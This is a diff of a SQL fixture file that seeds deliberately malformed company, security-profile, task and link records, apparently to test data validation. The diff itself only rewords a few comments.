   (3802, 3801, '3PL', '10003802', 'CERTIFIED', '12', NULL, 1, '2012-01-01 00:00:00', '2020-01-01 00:00:00'),        -- two characters in CHAR(1)
   (3803, 3803, '3PL', '10003803', 'CERTIFIED', '2', NULL, 1, 'long ago', '2020-01-01 00:00:00'),                    -- mandatory
   (3804, 'abc', '3PL', '10003804', 'CERTIFIED', '2', NULL, 1, '2012-01-01 00:00:00', '2020-01-01 00:00:00'),        -- a reference
   (3805, 3801, '3PL', '10003805', 'CERTIFIED', '2', NULL, 1.5, '2012-01-01 00:00:00', '2020-01-01 00:00:00'),       -- a soft reference
   (3806, 3806, '3PL', '10003806', 'CERTIFIED', '2', '2020-02-29 00:00:00', 1, '2012-01-01 00:00:00', '2020-01-01 00:00:00.123456+00:00'),
-  (3807, 3807, '3PL', '10003807', 'CERTIFIED', '2', NULL, 1, '2012-01-01 00:00:00', '2020-01-01 00:00:00');         -- below a model that is held
+  (3807, 3807, '3PL', '10003807', 'CERTIFIED', '2', NULL, 1, '2012-01-01 00:00:00', '2020-01-01 00:00:00');         -- its model is held
 INSERT INTO company_address (address_id, company_profile_id, address_type_cd, postal_code, mailing_ind, primary_ind, modified_at) VALUES
   ('abc', 38, 'HEADQUARTERS', NULL, 'Y', 'Y', '2012-01-01 00:00:00'), (X'616263', 38, 'WAREHOUSE', NULL, 'N', 'N', '2012-01-01 00:00:00'),
   (3801, 38, 'MAILING', 'a postal code of 32 characters..', 'N', 'N', '2012-01-01 00:00:00');
 INSERT INTO portal_task VALUES (NULL, 38, NULL, 'LOST_KEY', '2023-09-20', NULL), (NULL, 38, NULL, 'LOST_KEY', '2023-09-21', NULL);
-INSERT INTO portal_task VALUES (3801, 38, NULL, 'BLOB_DUE', X'323032332D30392D3230', NULL);                            -- the bytes of 2023-09-20 are no date
+INSERT INTO portal_task VALUES (3801, 38, NULL, 'BLOB_DUE', X'323032332D30392D3230', NULL);                            -- the bytes of 2023-09-20 are not a valid date
 INSERT INTO highway_crossing VALUES (3801, NULL), (3801, CAST(X'30FE' AS TEXT)), (3801, CAST(X'30FF' AS TEXT));      -- both become 0 and U+FFFD
 INSERT INTO security_profile (security_profile_id, security_model_id, criteria_version_id, profile_year, status_cd, due_dt, current_ind) VALUES
   (3801, 3801, 3, 2023.5, 'APPROVED', NULL, 'Y'), (3802, 3801, 3, 99999999999, 'APPROVED', NULL, 'Y'), (3803, 3801, 3, 2023, 'APPROVED', '2023-09-31', 'Y'), (3804, 3801, 3, 2022, 'APPROVED', 20220901, 'N');
@@ -778,7 +778,7 @@ INSERT INTO portal_user (user_id, user_name, password_hash, first_name, last_nam
 INSERT INTO company_contact (contact_id, company_profile_id, user_id, contact_type_cd, primary_poc_ind, admin_ind, ctpat_mail_ind, added_at, modified_at) VALUES
   (3803, 38, 3802, 'EMPLOYEE', 'N', 'N', 'N', '2012-01-01 00:00:00', '2020-01-01 00:00:00'), (3804, 38, 3803, 'EMPLOYEE', 'N', 'N', 'N', '2012-01-01 00:00:00', '2020-01-01 00:00:00');
 
--- 39. the company whose name is too long: held, and all below it ---------------------------------------------------------------------------------------------
+-- 39. the company whose name is too long: held with its dependents -------------------------------------------------------------------------------------------
 INSERT INTO company_profile (company_profile_id, company_name, created_at, modified_at, deleted_ind) VALUES (39, replace(hex(zeroblob(100)), '0', 'x') || 'y', '2012-01-01 00:00:00', '2020-01-01 00:00:00', 'N');
 INSERT INTO security_model VALUES (3901, 39, 'Below a name that is too long', 'APPLICATION', NULL, '2012-01-01 00:00:00', 'N', '2012-01-01 00:00:00');
 INSERT INTO model_entity (entity_id, security_model_id, business_type_cd, account_number, status_cd, created_at, modified_at) VALUES
@@ -849,7 +849,7 @@ INSERT INTO profile_response (response_id, security_profile_id, question_id, res
 INSERT INTO criteria_version VALUES (9, 'A version without a day', 'soon');
 INSERT INTO profile_question VALUES (9103, 'soon', 1, '9.1', 1, 'Its version is no number.');
 INSERT INTO question_applicability VALUES (9103, 'IMP', 'MUST');
--- who may see whose status, model by model; and who wants no more requests
+-- which company monitors which, model by model; and who wants no more requests
 INSERT INTO svi_setting VALUES (42, NULL, 'N', 'Y'), (43, NULL, 'N', 'y'), (44, NULL, 'N', NULL);
 INSERT INTO svi_link VALUES
   (4201, 42, 4201, NULL, 26, 2601, NULL, 'SENT', '2014-01-01 00:00:00', 4201, NULL, NULL, 'Y'),
